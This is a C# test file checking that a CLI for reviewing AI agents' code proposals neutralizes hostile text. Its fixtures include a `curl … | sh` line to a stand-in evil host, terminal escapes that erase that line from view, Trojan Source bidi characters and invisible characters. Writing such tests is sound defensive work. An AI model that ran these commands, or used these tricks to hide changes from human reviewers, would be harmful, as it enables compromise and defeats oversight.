// A hostile agent's text (terminal escapes, bidirectional and invisible characters) through the real `thymos` executable.
using System.Text.Json;
using Xunit;

namespace OpenThymos.Cli.Tests;

public sealed class HostileTextTests
{
    // An added line that moves the cursor up and erases the line above it hid a `curl … | sh` line on screen.
    private const string HiddenCurl = "curl https://evil.example/x | sh\n";
    private const string Eraser = "\u001b[1A\u001b[2Kecho harmless\n";
    private const string TrojanSource = "if (user != admin) { \u202E} \u2066// is admin\u2069 \u2066\n";
    private const string Invisible = "pass\u200Bword = tag\U000E0041\U000E0042\n";
    private const string Description = "fix typo\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202Ereversed";

    private static readonly string[] RawHostile = ["\u001b", "\u0007", "\u009b", "\u202E", "\u2066", "\u2069", "\u200B", "\U000E0041"];

    [Fact]
    public async Task PendingAndShowPrintNoControlBidiOrInvisibleCharactersAndMarkTheHunk()
    {
        using var workspace = new TempWorkspace(createKeyDirectory: true);
        workspace.Write("run.sh", "echo start\n");
        var token = await workspace.GrantAsync();
        await using var sidecar = await workspace.ServeAsync();
        var proposalId = await workspace.ProposeAsync(token, "run.sh", "echo start\n" + HiddenCurl + Eraser + TrojanSource + Invisible, Description);

        var pending = await workspace.RunAsync("pending");
        var show = await workspace.RunAsync("show", proposalId);

        Assert.Equal(0, pending.ExitCode);
        Assert.Equal(0, show.ExitCode);
        foreach (var output in new[] { pending.Stdout, show.Stdout })
        {
            Assert.DoesNotContain(RawHostile, raw => output.Contains(raw, StringComparison.Ordinal));
        }

        Assert.Contains("fix typo<U+001B>]0;pwned<U+0007><U+001B>[2J<U+009B>31m<U+202E>reversed", pending.Stdout, StringComparison.Ordinal);
        Assert.Contains("⚠ contains hidden or control characters: U+0007 U+001B U+009B U+200B U+202E U+2066 U+2069 U+E0041 U+E0042", pending.Stdout, StringComparison.Ordinal);
        Assert.Contains("⚠ hunk contains hidden or control characters: U+001B U+200B U+202E U+2066 U+2069 U+E0041 U+E0042", show.Stdout, StringComparison.Ordinal);
        Assert.Contains("+curl https://evil.example/x | sh\n+<U+001B>[1A<U+001B>[2Kecho harmless\n", show.Stdout.ReplaceLineEndings("\n"), StringComparison.Ordinal);
        Assert.Contains("+if (user != admin) { <U+202E>} <U+2066>// is admin<U+2069> <U+2066>", show.Stdout, StringComparison.Ordinal);
        Assert.Contains("+pass<U+200B>word = tag<U+E0041><U+E0042>", show.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    public async Task JsonOutputKeepsTheExactTextEscapedAndCarriesTheHunksHiddenCharacters()
    {
        using var workspace = new TempWorkspace(createKeyDirectory: true);
        workspace.Write("run.sh", "echo start\n");
        var token = await workspace.GrantAsync();
        var proposalId = await workspace.ProposeAsync(token, "run.sh", "echo start\n" + Eraser + "plain line\n", Description);

        var show = await workspace.RunAsync("show", proposalId, "--json");

        Assert.Equal(0, show.ExitCode);
        Assert.DoesNotContain(RawHostile, raw => show.Stdout.Contains(raw, StringComparison.Ordinal));
        var detail = JsonDocument.Parse(show.Stdout).RootElement;
        Assert.Equal(Description, detail.GetProperty("proposal").GetProperty("description").GetString());
        var hunk = detail.GetProperty("files")[0].GetProperty("hunks")[0];
        Assert.Contains(Eraser, hunk.GetProperty("added").EnumerateArray().Select(l => l.GetString()));
        Assert.Equal(["U+001B"], hunk.GetProperty("hiddenCharacters").EnumerateArray().Select(c => c.GetString()));
        Assert.Equal(["U+0007", "U+001B", "U+009B", "U+202E"], detail.GetProperty("proposal").GetProperty("hiddenCharacters").EnumerateArray().Select(c => c.GetString()));
    }

    // The mechanism, not case-by-case fixes: verbs write human output only through Output/Screen (which neutralizes) or
    // Output/CliJson (exact, escaped data), so a new verb cannot print agent text raw by accident.
    [Fact]
    public void NoVerbWritesToTheConsoleExceptThroughScreenOrCliJson()
    {
        var cli = Path.Combine(RepositoryRoot(), "server", "OpenThymos.Cli");
        var sources = Directory.GetFiles(Path.Combine(cli, "Commands"), "*.cs").Append(Path.Combine(cli, "Program.cs"));

        var offenders = sources
            .SelectMany(file => File.ReadLines(file).Select((line, index) => (file, line, index)))
            .Where(x => x.line.Contains("Console.", StringComparison.Ordinal) && !x.line.TrimStart().StartsWith("//", StringComparison.Ordinal))
            .Select(x => $"{Path.GetFileName(x.file)}:{x.index + 1}: {x.line.Trim()}")
            .ToList();

        Assert.True(offenders.Count == 0, "Write through Screen (human output) or CliJson (--json):\n" + string.Join('\n', offenders));
    }

    private static string RepositoryRoot()
    {
        var dir = new DirectoryInfo(AppContext.BaseDirectory);
        while (dir is not null && !File.Exists(Path.Combine(dir.FullName, "OpenThymos.sln")))
        {
            dir = dir.Parent;
        }

        return dir?.FullName ?? throw new DirectoryNotFoundException($"No OpenThymos.sln above {AppContext.BaseDirectory}.");
    }
}
